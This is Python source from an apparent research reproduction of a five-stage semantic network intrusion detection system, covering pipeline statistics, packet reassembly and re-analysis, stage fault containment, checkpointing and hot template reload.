    def _maybe_reload(self) -> None:
        if self.template_provider is None:
            return
        spec = self.template_provider()
        if spec is None:
            return
        if isinstance(spec, str):
            if hasattr(self.nids, "reload_template_set"):
                changed = self.nids.reload_template_set(spec)
            else:
                from .parallel import resolve_template_set
                changed = self.nids.reload_templates(
                    resolve_template_set(spec))
        else:
            changed = self.nids.reload_templates(spec)
        if changed:
            self.reloads += 1

    def _emit_heartbeat(self) -> None:
        stats = self.nids.stats
        line = (f"heartbeat: ingested={self._ingested.value} "
                f"processed={self._processed.value} "
                f"queued={len(self.ring)} shed={self.ring.shed_total} "
                f"alerts={stats.alerts} reloads={self.reloads}")
        if self.heartbeat_out is not None:
            self.heartbeat_out(line)

    def _emit(self, alert: Alert) -> None:
        """Alert egress: journal first (write-ahead), then deliver.

        A journal failure propagates — the daemon must not keep running
        while its durability backbone is gone (supervisors restart it;
        the journal tail is truncated and replayed on resume).
        """
        if self.journal is None:
            self._deliver(alert)
            return
        seq = self._alert_seq
        self._alert_seq += 1
        self.journal.append(seq, alert)
        self.delivery.deliver(seq, alert)

    def _deliver(self, alert: Alert) -> None:
        if self.on_alert is None:
            return
        try:
            self.on_alert(alert)
        except Exception as exc:  # noqa: BLE001 — operator code is untrusted
            firewall = getattr(self.nids, "firewall", None)
            if firewall is not None:  # fleet engines have no firewall
                firewall.contain_record(
                    "deliver", reason="resilience.stage-fault",
                    detail=f"{type(exc).__name__}: {exc}")

    # -- shutdown -------------------------------------------------------------

    def _shutdown(self, started: float) -> DaemonStats:
        for alert in self.nids.flush():
            self._emit(alert)
        if self.checkpoints is not None:
            self.checkpoint()
            self.delivery.replay_spool()
            self.journal.close()
            self.delivery.close()
        if hasattr(self.source, "finalize"):
            self.source.finalize()
        if self.window is not None:
            self.window.roll()
        if self._beat is not None:
            self._emit_heartbeat()
        return self.stats(duration=self._clock() - started)

    def stats(self, duration: float = 0.0) -> DaemonStats:
        # FleetStats spells the replay counters differently (and keeps
        # its own checkpoint accounting); normalize here.
        engine_stats = self.nids.stats
        replayed = getattr(engine_stats, "alerts_replayed",
                           getattr(engine_stats, "replayed", 0))
        deduped = getattr(engine_stats, "alerts_deduped",
                          getattr(engine_stats, "deduped", 0))
        return DaemonStats(
            ingested=self._ingested.value,
            processed=self._processed.value,
            shed=self.ring.shed_total,
            queued=len(self.ring) + (1 if self._held is not None else 0),
            backpressure_waits=self.ring.backpressure_total,
            alerts=engine_stats.alerts,
            reloads=self.reloads,
            windows=len(self.window.windows) if self.window else 0,
            duration=duration,
            checkpoints=self.checkpoints.saves if self.checkpoints else 0,
            replayed=replayed,
            deduped=deduped,
        )

"""Per-stage counters and timing for the NIDS pipeline.

The paper's efficiency claims (§5.1: 2.36-3.27 s per exploit, Netsky in
6.5 s vs 40 s for [5]) are about how much work each stage does; these
counters are what the timing benchmarks report.
"""

from __future__ import annotations

import time
from contextlib import contextmanager
from dataclasses import dataclass, field

__all__ = ["StageTimer", "NidsStats"]


@dataclass
class StageTimer:
    """Accumulated wall-clock time and invocation count for one stage."""

    name: str
    calls: int = 0
    elapsed: float = 0.0

    @contextmanager
    def timed(self):
        start = time.perf_counter()
        try:
            yield
        finally:
            self.elapsed += time.perf_counter() - start
            self.calls += 1

    @property
    def mean(self) -> float:
        return self.elapsed / self.calls if self.calls else 0.0


@dataclass
class NidsStats:
    """End-to-end pipeline statistics."""

    packets: int = 0
    payload_bytes: int = 0
    payloads_analyzed: int = 0
    frames_extracted: int = 0
    frames_analyzed: int = 0
    alerts: int = 0
    #: content-hash frame cache (repro.core.analyzer.FrameCache) outcomes;
    #: both stay 0 when the cache is disabled.
    frame_cache_hits: int = 0
    frame_cache_misses: int = 0
    #: parallel engine: payloads shipped to worker processes, and worker
    #: failures survived by falling back to the serial path.
    payloads_offloaded: int = 0
    worker_failures: int = 0
    #: front-end (reassembly) counters: evasion pressure the sensor absorbed.
    #: ``overlaps_trimmed`` is bytes discarded by first-writer-wins trimming
    #: across both the IP defragmenter and the TCP reassembler;
    #: ``fragments_dropped`` counts forged/duplicate fragments contributing
    #: nothing; the ``*_evicted`` counters record bounded-memory evictions
    #: of half-reassembled datagrams, streams, and per-stream analysis state.
    fragments_dropped: int = 0
    overlaps_trimmed: int = 0
    datagrams_evicted: int = 0
    streams_evicted: int = 0
    state_evicted: int = 0
    classify: StageTimer = field(default_factory=lambda: StageTimer("classify"))
    reassembly: StageTimer = field(default_factory=lambda: StageTimer("reassembly"))
    extraction: StageTimer = field(default_factory=lambda: StageTimer("extraction"))
    analysis: StageTimer = field(default_factory=lambda: StageTimer("analysis"))

    @property
    def frame_cache_hit_rate(self) -> float:
        total = self.frame_cache_hits + self.frame_cache_misses
        return self.frame_cache_hits / total if total else 0.0

    def summary(self) -> str:
        lines = [
            f"packets={self.packets} payload_bytes={self.payload_bytes}",
            f"payloads_analyzed={self.payloads_analyzed} "
            f"frames={self.frames_extracted} analyzed={self.frames_analyzed} "
            f"alerts={self.alerts}",
        ]
        if self.frame_cache_hits or self.frame_cache_misses:
            lines.append(
                f"frame cache: hits={self.frame_cache_hits} "
                f"misses={self.frame_cache_misses} "
                f"hit_rate={self.frame_cache_hit_rate:.1%}"
            )
        if self.payloads_offloaded or self.worker_failures:
            lines.append(
                f"workers: payloads_offloaded={self.payloads_offloaded} "
                f"failures={self.worker_failures}"
            )
        if (self.fragments_dropped or self.overlaps_trimmed
                or self.datagrams_evicted or self.streams_evicted
                or self.state_evicted):
            lines.append(
                f"front-end: fragments_dropped={self.fragments_dropped} "
                f"overlaps_trimmed={self.overlaps_trimmed} "
                f"datagrams_evicted={self.datagrams_evicted} "
                f"streams_evicted={self.streams_evicted} "
                f"state_evicted={self.state_evicted}"
            )
        for stage in (self.classify, self.reassembly, self.extraction, self.analysis):
            lines.append(
                f"  {stage.name:12s} calls={stage.calls:8d} "
                f"total={stage.elapsed:8.3f}s mean={stage.mean * 1e6:9.1f}us"
            )
        return "\n".join(lines)

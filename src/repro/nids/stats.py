"""Per-stage counters and timing for the NIDS pipeline.

The paper's efficiency claims (§5.1: 2.36-3.27 s per exploit, Netsky in
6.5 s vs 40 s for [5]) are about how much work each stage does.  Since
the observability refactor, :class:`NidsStats` owns no numbers — every
attribute is a view over a metric in the pipeline's shared
:class:`~repro.obs.MetricsRegistry` (the thing ``--metrics-out``
exports), and the stage timers are views over the same labeled stage
metrics the components themselves time into.  The historical attribute
names are unchanged.
"""

from __future__ import annotations

from ..obs import (
    ANALYZE_STAGE,
    MetricField,
    MetricsRegistry,
    NullTracer,
    StageTimer,
    Tracer,
    bind_metrics,
)

__all__ = ["StageTimer", "NidsStats"]


class NidsStats:
    """End-to-end pipeline statistics: a view over the metrics registry.

    Attribute-to-metric mapping (all documented in
    docs/observability.md): plain counters are :class:`MetricField`
    descriptors — reads and ``+=`` behave like the pre-refactor ints —
    and the stage timers share the ``repro_stage_*{stage=...}`` metrics
    with the components doing the timing, so both always agree.
    """

    packets = MetricField(
        "repro_packets_total", help="Packets fed to the sensor.",
        unit="packets")
    payload_bytes = MetricField(
        "repro_payload_bytes_total",
        help="Transport payload bytes fed to the sensor.", unit="bytes")
    payloads_analyzed = MetricField(
        "repro_payloads_analyzed_total",
        help="Payloads that reached extraction (stage b).", unit="payloads")
    frames_extracted = MetricField(
        "repro_frames_extracted_total",
        help="Binary frames emitted by extraction.", unit="frames")
    frames_analyzed = MetricField(
        "repro_frames_analyzed_total",
        help="Frames that went through semantic analysis.", unit="frames")
    alerts = MetricField(
        "repro_alerts_total", help="Alerts raised.", unit="alerts")
    #: content-hash frame cache (repro.core.analyzer.FrameCache) outcomes;
    #: both stay 0 when the cache is disabled.
    frame_cache_hits = MetricField(
        "repro_frame_cache_hits_total",
        help="Frame-cache hits (payload-cache replays included).",
        unit="frames")
    frame_cache_misses = MetricField(
        "repro_frame_cache_misses_total",
        help="Frame-cache misses.", unit="frames")
    #: fast-path admission (repro.fastpath): shares the analyzer's counters
    #: via registry aliasing, so serial-engine numbers show up here with no
    #: extra plumbing; parallel workers merge theirs through the registry
    #: delta.  All zero with ``--no-fastpath``.
    fastpath_frames_skipped = MetricField(
        "repro_fastpath_frames_skipped_total",
        help="Frames the anchor prefilter ruled out for every "
             "template (no disassembly performed).", unit="frames")
    fastpath_anchor_hits = MetricField(
        "repro_fastpath_anchor_hits_total",
        help="Anchor pattern occurrences found by prefilter scans.",
        unit="occurrences")
    fastpath_starts_pruned = MetricField(
        "repro_fastpath_candidate_starts_pruned_total",
        help="Match start positions skipped via anchor offsets "
             "(ruled-out templates count their whole trace).",
        unit="positions")
    #: parallel engine: payloads shipped to worker processes, and worker
    #: failures survived by falling back to the serial path.
    payloads_offloaded = MetricField(
        "repro_payloads_offloaded_total",
        help="Payloads shipped to worker processes.", unit="payloads")
    worker_failures = MetricField(
        "repro_worker_failures_total",
        help="Worker failures survived by degrading to the serial path.",
        unit="failures")
    #: front-end (reassembly) aggregates: evasion pressure the sensor
    #: absorbed, synced from the defragmenter/reassembler at flush and
    #: report time (``overlaps_trimmed`` sums both components).
    fragments_dropped = MetricField(
        "repro_frontend_fragments_dropped_total",
        help="Forged/duplicate IP fragments contributing nothing.",
        unit="fragments")
    overlaps_trimmed = MetricField(
        "repro_frontend_overlap_bytes_trimmed_total",
        help="Bytes discarded by first-writer-wins trimming "
             "(IP defragmenter + TCP reassembler).", unit="bytes")
    datagrams_evicted = MetricField(
        "repro_frontend_datagrams_evicted_total",
        help="Half-reassembled datagrams evicted under memory pressure.",
        unit="datagrams")
    streams_evicted = MetricField(
        "repro_frontend_streams_evicted_total",
        help="TCP streams evicted under memory pressure.", unit="streams")
    state_evicted = MetricField(
        "repro_frontend_state_evicted_total",
        help="Per-stream analysis states dropped with their stream.",
        unit="streams")
    #: worker self-healing (parallel engine, docs/robustness.md): the
    #: per-shard circuit breakers, pool rebuilds, and the payloads that
    #: rode the serial path while a shard was cooling off.  All zero on a
    #: serial engine and on any clean parallel run.
    breaker_opened = MetricField(
        "repro_breaker_opened_total",
        help="Shard breakers tripped open (incl. failed probes reopening).",
        unit="transitions")
    breaker_half_open = MetricField(
        "repro_breaker_half_open_total",
        help="Shard breakers entering half-open to probe a rebuilt pool.",
        unit="transitions")
    breaker_closed = MetricField(
        "repro_breaker_closed_total",
        help="Shard breakers re-closed by a successful result.",
        unit="transitions")
    breaker_open_shards = MetricField(
        "repro_breaker_open_shards", kind="gauge",
        help="Shards currently open or half-open (not taking full load).",
        unit="shards")
    pool_rebuilds = MetricField(
        "repro_pool_rebuilds_total",
        help="Broken worker pools torn down and respawned.", unit="pools")
    worker_retries = MetricField(
        "repro_worker_retries_total",
        help="In-flight payloads retried on a rebuilt pool.",
        unit="payloads")
    serial_fallback_payloads = MetricField(
        "repro_serial_fallback_payloads_total",
        help="Payloads analyzed in-process because a shard was unavailable.",
        unit="payloads")
    #: capture salvage: incremented by PcapReader(salvage=True) when it
    #: shares the sensor registry (``repro-sensor`` wires this up).
    pcap_truncated = MetricField(
        "repro_pcap_truncated_total",
        help="Captures that ended mid-record (salvaged or raised).",
        unit="captures")
    #: crash-safety (docs/operations.md "Crash recovery & durability"):
    #: incremented by the journal/checkpoint/delivery layer and the
    #: fleet watchdog when they share the sensor registry.  All zero on
    #: a run without ``--checkpoint-dir``.
    journal_fsyncs = MetricField(
        "repro_journal_fsync_total",
        help="fsync calls issued by the write-ahead alert journal.",
        unit="calls")
    alerts_replayed = MetricField(
        "repro_alerts_replayed_total",
        help="Journaled alerts re-offered to the sink after a restart.",
        unit="alerts")
    alerts_deduped = MetricField(
        "repro_alerts_deduped_total",
        help="Duplicate alerts suppressed by delivery-side replay dedupe.",
        unit="alerts")
    watchdog_restarts = MetricField(
        "repro_watchdog_restarts_total",
        help="Fleet shards killed and respawned by the dispatcher "
             "watchdog after a missed heartbeat.", unit="restarts")
    #: fleet transport (docs/architecture.md "Fleet transport"):
    #: incremented by the SensorFleet dispatcher when it shares the
    #: sensor registry.  All zero on a single-sensor run.
    fleet_ship_bytes = MetricField(
        "repro_fleet_ship_bytes_total",
        help="Payload bytes serialized into the dispatcher→worker "
             "transport (pickle triples or ring frames; offset extents "
             "count only their 24-byte descriptors).", unit="bytes")
    fleet_ring_full = MetricField(
        "repro_fleet_ring_full_total",
        help="Dispatch batches that found their shard's shared-memory "
             "ring full (counted blocking drain engaged).", unit="batches")
    fleet_ring_fallback = MetricField(
        "repro_fleet_ring_fallback_total",
        help="Dispatch batches that rode the pickle path because their "
             "ring stayed full after the drain.", unit="batches")
    quarantine_write_errors = MetricField(
        "repro_quarantine_write_errors_total",
        help="Quarantine capture/metadata writes that failed and were "
             "absorbed (ENOSPC, I/O errors).", unit="errors")

    def __init__(self, registry: MetricsRegistry | None = None,
                 tracer: Tracer | None = None) -> None:
        self.registry = bind_metrics(self, registry)
        # Checkpoint write latency lives here (not as a MetricField —
        # those only model counters/gauges) so the metric is always in
        # the schema, observed or not.
        self.checkpoint_write_seconds = self.registry.histogram(
            "repro_checkpoint_write_seconds",
            help="Wall seconds per atomic checkpoint write "
                 "(serialize+fsync+rename).", unit="seconds")
        self.fleet_ship_seconds = self.registry.histogram(
            "repro_fleet_ship_seconds",
            help="Dispatcher wall seconds per fleet batch shipped "
                 "(serialize/frame + submit).", unit="seconds")
        tracer = tracer if tracer is not None else NullTracer()
        # Historical attribute names; the stage labels are the canonical
        # pipeline stage names (classify/reassemble/extract + the
        # analyze aggregate over disassemble/lift/match).
        self.classify = StageTimer("classify", self.registry, tracer)
        self.reassembly = StageTimer("reassemble", self.registry, tracer)
        self.extraction = StageTimer("extract", self.registry, tracer)
        self.analysis = StageTimer(ANALYZE_STAGE, self.registry, tracer)

    @property
    def frame_cache_hit_rate(self) -> float:
        total = self.frame_cache_hits + self.frame_cache_misses
        return self.frame_cache_hits / total if total else 0.0

    def summary(self) -> str:
        lines = [
            f"packets={self.packets} payload_bytes={self.payload_bytes}",
            f"payloads_analyzed={self.payloads_analyzed} "
            f"frames={self.frames_extracted} analyzed={self.frames_analyzed} "
            f"alerts={self.alerts}",
        ]
        if self.frame_cache_hits or self.frame_cache_misses:
            lines.append(
                f"frame cache: hits={self.frame_cache_hits} "
                f"misses={self.frame_cache_misses} "
                f"hit_rate={self.frame_cache_hit_rate:.1%}"
            )
        if (self.fastpath_frames_skipped or self.fastpath_anchor_hits
                or self.fastpath_starts_pruned):
            lines.append(
                f"fastpath: frames_skipped={self.fastpath_frames_skipped} "
                f"anchor_hits={self.fastpath_anchor_hits} "
                f"starts_pruned={self.fastpath_starts_pruned}"
            )
        if self.payloads_offloaded or self.worker_failures:
            lines.append(
                f"workers: payloads_offloaded={self.payloads_offloaded} "
                f"failures={self.worker_failures}"
            )
        if (self.pool_rebuilds or self.worker_retries
                or self.serial_fallback_payloads or self.breaker_opened):
            lines.append(
                f"self-heal: pool_rebuilds={self.pool_rebuilds} "
                f"retries={self.worker_retries} "
                f"serial_fallback={self.serial_fallback_payloads} "
                f"breaker opened={self.breaker_opened} "
                f"half_open={self.breaker_half_open} "
                f"closed={self.breaker_closed}"
            )
        if (self.fragments_dropped or self.overlaps_trimmed
                or self.datagrams_evicted or self.streams_evicted
                or self.state_evicted):
            lines.append(
                f"front-end: fragments_dropped={self.fragments_dropped} "
                f"overlaps_trimmed={self.overlaps_trimmed} "
                f"datagrams_evicted={self.datagrams_evicted} "
                f"streams_evicted={self.streams_evicted} "
                f"state_evicted={self.state_evicted}"
            )
        for stage in (self.classify, self.reassembly, self.extraction, self.analysis):
            lines.append(
                f"  {stage.name:12s} calls={stage.calls:8d} "
                f"total={stage.elapsed:8.3f}s mean={stage.mean * 1e6:9.1f}us"
            )
        return "\n".join(lines)

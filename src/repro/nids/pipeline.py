"""The five-stage semantic NIDS (Figure 3).

Packet in → (a) traffic classifier → (b) binary detection & extraction →
(c) disassembler → (d) IR generator → (e) semantic analyzer → alerts.

Stages (c)-(e) live in :class:`repro.core.SemanticAnalyzer`; this module
owns the plumbing: per-packet classification, TCP stream reassembly with
incremental re-analysis, per-stream alert deduplication, and the response
blocklist.

Every stage runs behind the :class:`~repro.resilience.StageFirewall`
(docs/robustness.md): an exception escaping a stage is counted,
optionally quarantined, and surfaced as a degraded-mode alert — the
sensor keeps processing the next packet instead of dying on hostile
input.  ``analysis_deadline_ms`` additionally bounds the work any one
payload can extract from stages (c)-(e).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..classify.classifier import TrafficClassifier
from ..classify.darkspace import DarkSpaceMonitor
from ..classify.fanout import SmtpFanoutMonitor
from ..classify.honeypot import HoneypotRegistry
from ..core.analyzer import SemanticAnalyzer
from ..core.template import Template
from ..errors import DeadlineExceeded
from ..extract.frames import BinaryExtractor
from ..net.defrag import IpDefragmenter
from ..net.flow import FlowKey, StreamReassembler
from ..net.layers import Ipv4
from ..net.packet import Packet
from ..obs import MetricsRegistry, NullTracer, Tracer
from ..resilience.deadline import Deadline
from ..resilience.firewall import DEGRADED_SEVERITY, StageFirewall
from ..resilience.quarantine import QuarantineWriter
from .alerts import Alert, BlockList
from .stats import NidsStats

__all__ = ["SemanticNids"]


@dataclass
class _StreamState:
    """Per-stream analysis bookkeeping."""

    analyzed_len: int = 0
    analysis_rounds: int = 0
    alerted_templates: set[str] = field(default_factory=set)


class SemanticNids:
    """The complete NIDS.

    Parameters
    ----------
    honeypots:
        Decoy addresses; any sender contacting one becomes suspicious.
    dark_networks / dark_hosts / dark_threshold:
        Unused address space and the scan count ``t`` of §4.1.
    templates:
        Template set for the semantic analyzer (defaults to the paper's).
    classification_enabled:
        ``False`` reproduces §5.4: every payload is analyzed.
    max_rounds_per_stream:
        Cap on incremental re-analyses of one growing stream.
    frame_cache_size:
        Bound on the analyzer's content-hash frame cache; 0 disables it.
    reanalysis_overlap:
        When a grown stream is re-analyzed, only the new suffix plus this
        many already-analyzed bytes are re-extracted (the window covers any
        frame or sled straddling the boundary).  ``None`` restores the old
        behaviour of re-scanning the entire stream every round, which is
        quadratic in transfer length.
    max_streams:
        Bound on concurrently tracked TCP streams.  Evicting a stream also
        drops its per-stream analysis state, so the sensor's memory stays
        bounded under flow-churn floods.
    analysis_deadline_ms:
        Per-payload analysis budget, in deterministic instruction units
        (:data:`repro.resilience.UNITS_PER_MS` per ms).  A payload that
        exhausts it is cut off with a ``resilience.deadline-exceeded``
        degraded alert instead of stalling the sensor.  ``None`` = no
        budget.
    quarantine:
        Optional :class:`~repro.resilience.QuarantineWriter`; every input
        whose fault the stage firewall contains is preserved there.
    fastpath:
        Enable the template anchor prefilter (:mod:`repro.fastpath`) in
        the analyzer.  Anchors are necessary conditions, so the alert
        stream is byte-identical with it off (``--no-fastpath``) — it
        only skips provably fruitless work.  Default on.
    compiled:
        Run the analyzer's match engine on compiled template match plans
        instead of the recursive interpreter.  The compiled executor is
        exactly equivalent (alerts *and* budget accounting are
        byte-identical); it only skips work that provably cannot match.
        Default on.
    ir_cache_size:
        Bound on the analyzer's lifted-IR memoization cache, keyed by
        frame content digest.  ``None`` inherits ``frame_cache_size``;
        0 disables it.
    """

    def __init__(
        self,
        honeypots: list[str] | None = None,
        dark_networks: list[str] | None = None,
        dark_hosts: list[str] | None = None,
        dark_threshold: int = 5,
        dark_exclude: list[str] | None = None,
        smtp_fanout_threshold: int | None = None,
        templates: list[Template] | None = None,
        classification_enabled: bool = True,
        max_rounds_per_stream: int = 64,
        reanalysis_growth: int = 4096,
        frame_cache_size: int = 4096,
        reanalysis_overlap: int | None = 16384,
        max_streams: int = 65536,
        analysis_deadline_ms: float | None = None,
        quarantine: QuarantineWriter | None = None,
        registry: MetricsRegistry | None = None,
        tracer: Tracer | None = None,
        fastpath: bool = True,
        compiled: bool = True,
        ir_cache_size: int | None = None,
    ) -> None:
        #: one registry per sensor: every component registers its metrics
        #: here, and ``--metrics-out`` snapshots it.  The stage timers in
        #: ``self.stats`` are views over the same labeled metrics the
        #: components time into, so no syncing is ever needed for those.
        self.registry = registry if registry is not None else MetricsRegistry()
        self.tracer = tracer if tracer is not None else NullTracer()
        obs = dict(registry=self.registry, tracer=self.tracer)
        self.classifier = TrafficClassifier(
            honeypots=HoneypotRegistry.of(honeypots or []),
            darkspace=DarkSpaceMonitor(
                dark_networks=dark_networks, dark_hosts=dark_hosts,
                threshold=dark_threshold, exclude=dark_exclude,
            ),
            fanout=(SmtpFanoutMonitor(threshold=smtp_fanout_threshold)
                    if smtp_fanout_threshold is not None else None),
            enabled=classification_enabled,
            **obs,
        )
        self.defragmenter = IpDefragmenter(**obs)
        self.reassembler = StreamReassembler(max_streams=max_streams,
                                             on_evict=self._on_stream_evicted,
                                             **obs)
        self.extractor = BinaryExtractor(**obs)
        self.analyzer = SemanticAnalyzer(templates=templates,
                                         frame_cache_size=frame_cache_size,
                                         fastpath=fastpath,
                                         compiled=compiled,
                                         ir_cache_size=ir_cache_size,
                                         **obs)
        self.fastpath = fastpath
        self.compiled = compiled
        self.ir_cache_size = ir_cache_size
        self.blocklist = BlockList()
        self.firewall = StageFirewall(self.registry, quarantine=quarantine)
        self.analysis_deadline_ms = analysis_deadline_ms
        self._deadline_units = (
            Deadline.from_ms(analysis_deadline_ms).budget_units
            if analysis_deadline_ms else None)
        self.stats = NidsStats(self.registry, self.tracer)
        self._template_reloads = self.registry.counter(
            "repro_template_reloads_total",
            help="Hot template-library reloads applied (digest changed).",
            unit="reloads")
        self.alerts: list[Alert] = []
        self.max_rounds_per_stream = max_rounds_per_stream
        #: a growing stream is re-analyzed on its first payload bytes, then
        #: after each additional ``reanalysis_growth`` bytes, and at FIN —
        #: bounding the quadratic cost of rescanning long transfers.
        self.reanalysis_growth = reanalysis_growth
        self.reanalysis_overlap = reanalysis_overlap
        self._stream_state: dict[FlowKey, _StreamState] = {}

    # -- packet path ---------------------------------------------------------

    def process_packet(self, pkt: Packet) -> list[Alert]:
        """Feed one packet; returns any alerts it produced.

        Stage faults (defragmentation, classification, reassembly) are
        contained per-packet: the offender is counted and quarantined,
        a degraded alert is returned, and the next packet proceeds
        through an intact pipeline.
        """
        self.stats.packets += 1
        self.stats.payload_bytes += len(pkt.payload)
        try:
            whole = self.defragmenter.feed(pkt)
        except Exception as exc:
            return self._contain_packet_fault("reassemble", pkt, exc)
        if whole is None:
            return []  # fragment buffered; the datagram is not complete yet
        pkt = whole
        # The components time themselves (classifier/reassembler/extractor/
        # analyzer each own a StageTimer on the shared registry); the
        # ``stats`` timers are views over the same metrics.
        try:
            forward = self.classifier.classify(pkt)
        except Exception as exc:
            return self._contain_packet_fault("classify", pkt, exc)
        if not forward:
            return []
        new_alerts: list[Alert] = []
        if pkt.is_tcp:
            try:
                stream = self.reassembler.feed(pkt)
            except Exception as exc:
                return self._contain_packet_fault("reassemble", pkt, exc)
            if stream is None:
                return []
            state = self._stream_state.setdefault(stream.key, _StreamState())
            # Growth check via the stream's byte counter: no payload is
            # materialized unless a re-analysis is actually due.
            contiguous = stream.contiguous_length()
            grown = contiguous - state.analyzed_len
            should = (
                grown > 0
                and state.analysis_rounds < self.max_rounds_per_stream
                and (
                    state.analyzed_len == 0          # first payload bytes
                    or grown >= self.reanalysis_growth
                    or stream.fin_seen               # flush at close
                )
            )
            if should:
                state.analysis_rounds += 1
                data = stream.data()
                if self.reanalysis_overlap is not None:
                    # Incremental re-analysis: the already-analyzed prefix
                    # is skipped except for a fixed overlap window sized to
                    # cover any frame/sled straddling the old boundary.
                    window_start = max(0, state.analyzed_len - self.reanalysis_overlap)
                    data = data[window_start:]
                state.analyzed_len = contiguous
                new_alerts = self._analyze_payload(pkt, data, state)
        elif pkt.payload:
            new_alerts = self._analyze_payload(pkt, pkt.payload, None)
        return new_alerts

    def process_trace(self, packets) -> list[Alert]:
        """Feed a whole capture; returns all alerts raised."""
        before = len(self.alerts)
        for pkt in packets:
            self.process_packet(pkt)
        self.flush()
        return self.alerts[before:]

    def flush(self) -> list[Alert]:
        """Complete any deferred analysis: streams with buffered growth
        that never crossed a re-analysis trigger get one final pass (the
        parallel engine additionally drains its worker queues here)."""
        before = len(self.alerts)
        self._finalize_streams()
        self.sync_frontend_stats()
        return self.alerts[before:]

    def _finalize_streams(self) -> None:
        """End-of-capture analysis of unexamined stream tails.

        Detection must not depend on the attacker's courtesy: a flow that
        ends without FIN, whose first segment was tiny and whose total
        growth stayed under ``reanalysis_growth``, would otherwise never
        be re-analyzed past its first bytes — an evasion by scheduling
        rather than by reassembly.  Idempotent: a second flush finds no
        new growth.
        """
        for stream in list(self.reassembler.streams.values()):
            contiguous = stream.contiguous_length()
            state = self._stream_state.setdefault(stream.key, _StreamState())
            grown = contiguous - state.analyzed_len
            if (grown <= 0
                    or state.analysis_rounds >= self.max_rounds_per_stream):
                continue
            state.analysis_rounds += 1
            data = stream.data()
            if self.reanalysis_overlap is not None:
                window_start = max(0, state.analyzed_len - self.reanalysis_overlap)
                data = data[window_start:]
            state.analyzed_len = contiguous
            # Attribution context: the stream's sender, stamped with its
            # last activity (there is no "current packet" at flush time).
            pkt = Packet(ip=Ipv4(src=stream.key.src, dst=stream.key.dst,
                                 proto=stream.key.proto),
                         timestamp=stream.stats.last_seen)
            self._analyze_payload(pkt, data, state)

    def _on_stream_evicted(self, key: FlowKey) -> None:
        """Reassembler eviction hook: drop the matching analysis state so
        ``_stream_state`` stays bounded by the reassembler's stream cap."""
        if self._stream_state.pop(key, None) is not None:
            self.stats.state_evicted += 1

    def sync_frontend_stats(self) -> None:
        """Copy the reassembly front-end's counters into :class:`NidsStats`
        (called at flush and report time; the components own the live
        values)."""
        self.stats.fragments_dropped = self.defragmenter.fragments_dropped
        self.stats.datagrams_evicted = self.defragmenter.datagrams_evicted
        self.stats.overlaps_trimmed = (self.defragmenter.overlaps_trimmed
                                       + self.reassembler.overlaps_trimmed)
        self.stats.streams_evicted = self.reassembler.evicted

    def close(self) -> None:
        """Release engine resources (worker pools, for the parallel
        engine).  The serial engine holds none."""
        self.flush()

    # -- crash-safe checkpointing --------------------------------------------

    STATE_VERSION = 1

    def snapshot_state(self) -> dict:
        """Picklable snapshot of all detection-relevant mutable state.

        Covers per-source classifier memory (suspicious set, dark-space
        scanner records, SMTP fan-out records), the IP defragmentation
        buffers, TCP streams with their per-stream analysis state, and
        the blocklist — everything whose loss would change future
        alerts.  Analyzer caches (frame cache, IR cache) are *not*
        captured: they are performance-only and rebuilt on demand, and
        the parity suites pin that they never change the alert stream.
        Engine stat counters are likewise left to the metrics layer.
        """
        fanout = self.classifier.fanout
        return {
            "version": self.STATE_VERSION,
            "library_digest": self.library_digest(),
            "suspicious": set(self.classifier.suspicious),
            "darkspace": {
                "records": dict(self.classifier.darkspace.records),
                "flagged": self.classifier.darkspace.scanners_flagged,
            },
            "fanout": None if fanout is None else {
                "records": dict(fanout.records),
                "flagged": fanout.mailers_flagged,
            },
            "defrag_buffers": dict(self.defragmenter._buffers),
            "streams": dict(self.reassembler.streams),
            "stream_state": dict(self._stream_state),
            "blocked": dict(self.blocklist._blocked),
        }

    def restore_state(self, state: dict) -> None:
        """Rehydrate a :meth:`snapshot_state` payload into this engine.

        Raises :class:`ValueError` when the snapshot was taken under a
        different template library — resuming stale per-source state
        against changed templates would silently shape new detections.
        """
        if state.get("version") != self.STATE_VERSION:
            raise ValueError(
                f"checkpoint state version {state.get('version')!r} != "
                f"{self.STATE_VERSION}")
        if state.get("library_digest") != self.library_digest():
            raise ValueError(
                "checkpoint was taken under a different template library; "
                "refusing to resume (re-run without --resume or restore "
                "the original templates)")
        self.classifier.suspicious = set(state["suspicious"])
        self.classifier.darkspace.records = dict(state["darkspace"]["records"])
        self.classifier.darkspace.scanners_flagged = state["darkspace"]["flagged"]
        if state["fanout"] is not None and self.classifier.fanout is not None:
            self.classifier.fanout.records = dict(state["fanout"]["records"])
            self.classifier.fanout.mailers_flagged = state["fanout"]["flagged"]
        self.defragmenter._buffers = dict(state["defrag_buffers"])
        self.defragmenter.bytes_buffered = sum(
            b.buffered for b in self.defragmenter._buffers.values())
        self.reassembler.streams = dict(state["streams"])
        self.reassembler.bytes_buffered = sum(
            s.buffered for s in self.reassembler.streams.values())
        self.reassembler._active_streams.set(len(self.reassembler.streams))
        self._stream_state = dict(state["stream_state"])
        self.blocklist._blocked = dict(state["blocked"])

    # -- hot template reload -------------------------------------------------

    def library_digest(self) -> bytes:
        """Digest of the currently loaded template library."""
        from ..core.library import library_digest

        return library_digest(self.analyzer.templates)

    def reload_templates(self, templates: list[Template]) -> bool:
        """Hot-swap the template library, keyed on
        :func:`~repro.core.library.library_digest`: an unchanged digest
        is a no-op (returns ``False``); a changed one swaps the
        analyzer's library — frame cache, compiled match plans, and
        anchor prefilter invalidate atomically with it (see
        :meth:`~repro.core.analyzer.SemanticAnalyzer.set_templates`) —
        and counts ``repro_template_reloads_total``.
        """
        from ..core.library import library_digest

        if library_digest(templates) == self.library_digest():
            return False
        self.analyzer.set_templates(templates)
        self._template_reloads.inc()
        return True

    # -- stages (b)-(e) ---------------------------------------------------------

    def _analyze_payload(
        self, pkt: Packet, payload: bytes, state: _StreamState | None
    ) -> list[Alert]:
        self.stats.payloads_analyzed += 1
        try:
            frames = self.extractor.extract(payload)
        except Exception as exc:
            return self._contain_payload_fault("extract", pkt, payload,
                                               state, exc)
        self.stats.frames_extracted += len(frames)
        out: list[Alert] = []
        deadline = (Deadline(self._deadline_units)
                    if self._deadline_units else None)
        for frame in frames:
            try:
                result = self.analyzer.analyze_frame(frame.data,
                                                     deadline=deadline)
            except DeadlineExceeded as exc:
                # The budget is per-payload: nothing is left for the
                # remaining frames either.
                out.extend(self._contain_payload_fault(
                    "analyze", pkt, payload, state, exc))
                break
            except Exception as exc:
                out.extend(self._contain_payload_fault(
                    "analyze", pkt, payload, state, exc))
                continue
